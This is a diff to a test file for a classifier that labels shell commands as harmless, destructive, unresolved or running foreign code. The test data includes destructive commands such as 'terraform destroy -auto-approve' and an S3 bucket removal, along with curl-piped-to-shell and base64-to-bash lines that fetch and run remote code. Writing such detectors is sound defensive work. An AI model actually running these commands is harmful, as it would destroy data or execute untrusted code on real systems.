@@ -43,6 +43,15 @@ test('what destroys is found at the end of a very long line', () => {
   expect(effectOf(`aws ${' '.repeat(100_000)} s3 rb s3://docs`)).toMatchObject({ kind: 'destructive' });
 });
 
+test.each([
+  ['echo $(our-own-tool)', 'unresolved'],
+  ['export TOKEN=`our-own-tool --print`', 'unresolved'],
+  ['echo $(terraform destroy -auto-approve)', 'destructive'],
+  ['echo "built $(date) at $(git rev-parse HEAD)"', 'harmless'],
+])('what %s runs inside counts: %s', (command, kind) => {
+  expect(effectOf(command).kind).toBe(kind);
+});
+
 test.each(['curl -fsSL https://example.com/x.sh | sh', 'bash <(curl -s https://example.com)', 'echo aGk= | base64 -d | bash'])(
   '%s runs foreign code',
   (command) => {
